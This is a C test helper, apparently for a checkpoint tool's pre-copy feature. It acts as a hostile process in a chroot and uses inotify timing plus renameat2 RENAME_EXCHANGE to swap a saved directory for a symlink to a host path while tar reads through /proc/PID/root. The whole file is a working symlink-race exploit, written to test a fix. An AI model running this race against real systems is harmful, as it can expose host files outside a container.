/*
 * A hostile dumped tree against --tmp-file-precopy (issue 20, hole 3):
 * run in a chroot, it swaps its saved directory /data/sub for the symlink
 * /data/sublink (to the name of a host directory) exactly while the
 * pre-copy's tar reads the saved paths through /proc/PID/root, and swaps
 * it back before the freeze.
 *
 *   precopy_swap REPORT
 *
 * Armed by inotify: the first IN_OPEN of /data/0trig (the first file the
 * pre-copy reads: the oldest and the first name) swaps; the second
 * IN_CLOSE_NOWRITE of /data/zz (the last file both the checksum child and
 * tar read) swaps back. REPORT gets "ready", then "swapped", then
 * "back" (each rename is atomic, so REPORT always has one whole line).
 * Then it waits to be killed. Built static: the chroot has nothing else.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static const char *report_path;

static void report(const char *what)
{
	char tmp[4096];
	int fd;

	snprintf(tmp, sizeof(tmp), "%s.tmp", report_path);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, what, strlen(what)) != (ssize_t)strlen(what) || close(fd) ||
	    rename(tmp, report_path)) {
		perror(tmp);
		exit(1);
	}
}

static void exchange(void)
{
	if (renameat2(AT_FDCWD, "/data/sub", AT_FDCWD, "/data/sublink", RENAME_EXCHANGE)) {
		perror("renameat2");
		exit(1);
	}
}

int main(int argc, char **argv)
{
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	int in, trig, after, closes = 0, swapped = 0;

	if (argc != 2)
		return 2;
	report_path = argv[1];
	in = inotify_init1(0);
	trig = in < 0 ? -1 : inotify_add_watch(in, "/data/0trig", IN_OPEN);
	after = in < 0 ? -1 : inotify_add_watch(in, "/data/zz", IN_CLOSE_NOWRITE);
	if (trig < 0 || after < 0) {
		perror("inotify");
		return 1;
	}
	report("ready\n");
	for (;;) {
		ssize_t n = read(in, buf, sizeof(buf));
		char *p;

		if (n <= 0) {
			perror("read");
			return 1;
		}
		for (p = buf; p < buf + n; p += sizeof(struct inotify_event) + ((struct inotify_event *)p)->len) {
			const struct inotify_event *ev = (const struct inotify_event *)p;

			if (ev->wd == trig && !swapped) {
				exchange();
				swapped = 1;
				report("swapped\n");
			} else if (ev->wd == after && swapped && ++closes == 2) {
				exchange();
				report("back\n");
				close(in); /* nothing more: no inotify watch left to dump */
				for (;;)
					pause();
			}
		}
	}
}
